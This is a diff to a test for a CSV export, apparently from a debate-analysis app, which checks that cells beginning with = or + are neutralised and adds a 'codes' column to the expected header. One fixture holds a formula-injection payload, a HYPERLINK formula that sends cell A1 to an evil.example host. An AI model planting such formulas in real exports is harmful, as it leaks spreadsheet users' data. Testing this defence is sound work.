@@ -54,7 +54,7 @@ test('when exported units start with = or +, then their CSV cells are neutralise
   assert.equal(response.status, 200);
   const text = await response.text();
   const rows = parse(text, { bom: true }) as string[][];
-  assert.deepEqual(rows[0], ['id', 'debate', 'speaker', 'speakerName', 'question', 'position', 'positionLabel', 'kind', 'text', 'url']);
+  assert.deepEqual(rows[0], ['id', 'debate', 'speaker', 'speakerName', 'question', 'position', 'positionLabel', 'kind', 'text', 'url', 'codes']);
   const byId = new Map(rows.slice(1).map((r) => [r[0], r]));
   assert.equal(byId.get('formula-1')?.[8], `'=HYPERLINK("http://evil.example/?x="&A1, "click")`);
   assert.equal(byId.get('formula-2')?.[8], `'+1, "agreed", said someone`);
